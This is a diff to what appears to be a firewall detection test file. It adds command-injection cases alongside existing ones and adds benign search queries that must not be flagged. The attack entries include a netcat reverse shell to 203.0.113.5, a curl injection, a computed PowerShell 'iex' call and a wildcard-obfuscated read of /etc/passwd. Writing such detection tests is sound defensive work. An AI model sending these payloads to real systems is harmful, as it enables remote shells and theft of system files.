@@ -40,6 +40,11 @@ ATTACKS = [
      500910, "referer", "sh:;curl"),
     ("/api/items/1%3Bnc%20-e%20/bin/sh%20203.0.113.5%204444", [], 500910,
      "path", "sh:;nc"),
+    # PowerShell's call operator on a computed name; a globbed binary path
+    ("/ping.php?host=x%3B%26(%27ie%27%2B%27x%27)%20whoami", [], 500900,
+     "args:host", "ps:&(computed)"),
+    ("/ping.php?host=1%20/%3F%3F%3F/%3F%3Ft%20/%3F%3F%3F/p%3F%3Fswd", [],
+     500900, "args:host", "sh:"),
 ]
 
 BENIGN = [
@@ -53,6 +58,8 @@ BENIGN = [
                  "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
                  "Safari/537.36")]),
     ("/p.php", [("Referer", "https://www.example.com/search?q=Tom+%26+Jerry")]),
+    ("/search.php?q=%25APPDATA%25%5CMicrosoft%5CWindows%5CStart+Menu", []),
+    ("/search.php?q=What+is+iex+in+PowerShell%3F", []),
 ]
 
 
